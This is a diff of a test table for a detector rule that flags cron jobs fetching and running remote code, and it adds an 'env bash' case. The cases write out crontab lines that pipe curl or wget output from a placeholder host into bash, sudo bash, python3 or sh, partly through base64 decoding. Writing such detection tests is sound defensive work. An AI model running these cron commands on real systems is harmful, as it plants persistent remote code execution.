@@ -37,6 +37,7 @@ ruleTable(cronDownloadExec, {
     },
     'a loader with redirection': found('* * * * * wget -q -O - https://e.example/i 2>/dev/null | bash', 'every minute'),
     'through sudo and a path': found('@reboot curl https://e.example/i | sudo -E /bin/bash -', 'at every start'),
+    'through env': found('0 * * * * curl -s https://e.example/x | /usr/bin/env bash', 'env bash'),
     'into python': found('0 * * * * curl -s https://e.example/x.py | python3', 'every hour'),
     'through another tool': found('0 * * * * curl -s https://e.example/x | base64 -d | sh', '| sh'),
     substituted: found('0 * * * * sh -c "$(curl -fsSL https://e.example/x)"', 'curl'),
